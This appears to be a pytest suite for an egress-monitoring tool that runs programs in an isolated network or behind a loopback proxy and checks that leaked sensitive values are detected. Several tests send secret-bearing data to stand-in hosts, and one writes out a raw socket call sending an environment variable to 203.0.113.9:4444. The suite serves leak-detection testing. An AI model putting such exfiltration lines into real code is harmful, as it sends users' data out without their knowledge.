"""Is what leaves a program seen, by whatever runtime and way, and is a program that keeps it to itself left alone?

Nothing leaves this machine: every test stands in a network of its own, or speaks to a proxy on loopback.
"""

import socket
import sys
import time
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest

from conformance.application.action import run_for_output
from conformance.bilingual import Words
from conformance.egress.departures import Departure, read_departures
from conformance.egress.namespace import NoNamespace, own_network
from conformance.egress.search import ValueSearch, destinations, find_leaks
from conformance.egress.watch import EgressWatch, Started
from conformance.egress.watched import Watched, read_watched
from conformance.record.egress import Leak, Way
from tests.helpers.leaking import PROGRAMS, Program
from tests.helpers.raw_server import serving, whole
from tests.helpers.scanning import HOUSE, VALUES

DWH, HARMLESS = HOUSE.text, "permohonan nomor 17 diterima di loket dua"
ASKED = Words("diminta", "asked for")
STARTED = [Started("web", [sys.executable, "-m", "http.server"], {}), Started("lain", ["sh", "mulai.sh"], {})]
SETTLED_S = 3.0


@pytest.fixture(scope="module")
def apart(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EgressWatch]:
    with EgressWatch(tmp_path_factory.mktemp("ruang")) as watch:
        if watch.way is not Way.RUANG:
            pytest.skip(watch.reason.english)
        yield watch


@pytest.fixture
def nowhere() -> Iterator[None]:
    """A network of its own in which nobody answers."""
    try:
        with own_network(may_stay=False):
            yield
    except NoNamespace as error:
        pytest.skip(error.words.english)


@pytest.fixture
def between(nowhere: None, tmp_path: Path) -> Iterator[EgressWatch]:
    with EgressWatch(tmp_path, obstacle=ASKED) as watch:
        yield watch


def send(watch: EgressWatch, program: Program, host: str, isi: str) -> list[Departure]:
    """Let a program send; return what was seen to leave for `host`, once it is there."""
    env = {**watch.environment, "ISI": isi, "HOST": host}
    run_for_output([*program.command], watch.directory, 20, env)
    until = time.monotonic() + SETTLED_S
    while time.monotonic() < until:
        seen = [one for one in read_departures(watch.directory) if one.host.endswith(host)]
        if any(one.protocol == program.protocol for one in seen) or any(not one.is_open for one in seen):
            time.sleep(0.4)  # what goes over a bare line is written down at its next silence
            return [one for one in read_departures(watch.directory) if one.host.endswith(host)]
        time.sleep(0.05)
    return [one for one in read_departures(watch.directory) if one.host.endswith(host)]


@cache
def search() -> ValueSearch:
    """What the DWH is taken to have told; a compiled engine is good for all tests."""
    return ValueSearch(VALUES)


def leaks_in(seen: list[Departure]) -> list[Leak]:
    return list(find_leaks(seen, (), search()))


@pytest.mark.parametrize("name", PROGRAMS)
def test_in_a_network_of_its_own_whatever_leaves_is_seen_and_searched(apart: EgressWatch, name: str) -> None:
    program = PROGRAMS[name]
    if program.missing:
        pytest.skip(f"{program.missing} is not installed")
    leaks = leaks_in(send(apart, program, f"{name}.bocor.example", DWH))
    assert {(leak.element, leak.protocol, leak.part) for leak in leaks} == {("ALAMAT", program.protocol, program.part)}
    seen = send(apart, program, f"{name}.aman.example", HARMLESS)
    assert any(one.protocol == program.protocol for one in seen), seen
    assert leaks_in(seen) == []


def test_who_does_not_trust_our_authority_is_seen_and_not_looked_into(apart: EgressWatch) -> None:
    code = """
import certifi, ssl, urllib.request
urllib.request.urlopen("https://tertutup.example/", context=ssl.create_default_context(cafile=certifi.where()))
"""
    seen = send(apart, Program((sys.executable, "-c", code), "tls"), "tertutup.example", DWH)
    assert [(one.host, one.is_open) for one in destinations(seen, (), "x")] == [("tertutup.example", False)]


def test_addresses_are_seen_where_no_name_was_asked_for(apart: EgressWatch) -> None:
    for host, family in (("203.0.113.9", "IPv4"), ("2001:db8::9", "IPv6")):
        code = f"""
import os, socket
socket.create_connection(('{host}', 4444), 5).sendall(os.environ['ISI'].encode())
"""
        leaks = leaks_in(send(apart, Program((sys.executable, "-c", code), "tcp", "data"), host, DWH))
        assert [(leak.element, leak.host, leak.port) for leak in leaks] == [("ALAMAT", host, 4444)], family


def test_the_control_of_each_process_is_seen_in_a_network_of_its_own(apart: EgressWatch) -> None:
    watched = apart.prove(STARTED, ["surat.example"])
    assert watched == read_watched(apart.directory)
    assert (watched.way, watched.reason, watched.hosts) == (Way.RUANG, "", ("surat.example",))
    assert [(one.process, one.runtime, one.ways) for one in watched.controls] == [
        ("lain", "lain", (Way.RUANG,)), ("web", "python", (Way.RUANG,)),
    ]  # fmt: skip


def test_afterwards_this_thread_is_back_in_the_network_of_the_machine(tmp_path: Path) -> None:
    before = Path("/proc/thread-self/ns/net").readlink()
    with socket.create_server(("127.0.0.1", 0)) as outside:
        address = outside.getsockname()
        with EgressWatch(tmp_path) as watch:
            if watch.way is not Way.RUANG:
                pytest.skip(watch.reason.english)
            assert Path("/proc/thread-self/ns/net").readlink() != before
            with pytest.raises(OSError, match="refused"):
                socket.create_connection(address, 1)
        assert Path("/proc/thread-self/ns/net").readlink() == before
        socket.create_connection(address, 1).close()
    assert not list(tmp_path.glob("keluar.jsonl"))


def test_what_stands_outside_is_let_through_and_nothing_beside_it(tmp_path: Path) -> None:
    page = whole(b"halaman")
    with serving(page) as address, serving(page) as closed, EgressWatch(tmp_path, outside=[address]) as watch:
        if watch.way is not Way.RUANG:
            pytest.skip(watch.reason.english)
        for url, said in ((address, "200"), (closed, "refused")):
            code = f"import urllib.request; print(urllib.request.urlopen('{url}', timeout=5).status)"
            assert said in str(run_for_output([sys.executable, "-c", code], tmp_path, 20, watch.environment))
        assert read_departures(tmp_path) == []


class TestBetween:
    """Where no network of its own is to be had: a proxy, and samples of sockets."""

    @pytest.mark.parametrize("name", ["python-query", "python-https", "python-gzip", "curl-query", "curl-https"])
    def test_what_heeds_the_proxy_is_seen_and_searched(self, between: EgressWatch, name: str) -> None:
        program = PROGRAMS[name]
        if program.missing:
            pytest.skip(f"{program.missing} is not installed")
        leaks = leaks_in(send(between, program, "bocor.example", DWH))
        assert [(leak.element, leak.host, leak.protocol) for leak in leaks] == [
            ("ALAMAT", "bocor.example", program.protocol)
        ]
        assert leaks_in(send(between, program, "aman.example", HARMLESS)) == []

    def test_what_heeds_no_proxy_is_seen_by_its_socket_and_not_looked_into(self, between: EgressWatch) -> None:
        code = "import socket; socket.create_connection(('203.0.113.9', 4444), 1)"
        seen = send(between, Program((sys.executable, "-c", code), "tcp"), "203.0.113.9", DWH)
        assert [(one.way, one.host, one.port, one.is_open) for one in seen] == [(Way.SOKET, "203.0.113.9", 4444, False)]

    def test_a_control_says_which_way_its_runtime_can_be_seen(self, between: EgressWatch) -> None:
        watched = between.prove(STARTED[:1], [])
        assert (watched.way, watched.reason) == (Way.PROKSI, ASKED.indonesian)
        assert watched.controls[0].ways == (Way.PROKSI, Way.SOKET)

    def test_a_runtime_that_heeds_no_proxy_leaves_the_sockets_alone(self, between: EgressWatch) -> None:
        blind = {"NO_PROXY": "*", "no_proxy": "*"}
        watched = between.prove([STARTED[0]._replace(env=blind)], [])
        assert watched.controls[0].ways == (Way.SOKET,)
        assert (watched.way, watched.reason) == (Way.SOKET, "kontrol tidak terlihat dari web (python)")

    def test_a_plan_that_starts_nothing_proves_nothing(self, between: EgressWatch) -> None:
        assert between.prove([], []) == Watched(
            Way.TIDAK, "rencana tidak menjalankan aplikasi", "the plan does not start the application"
        )
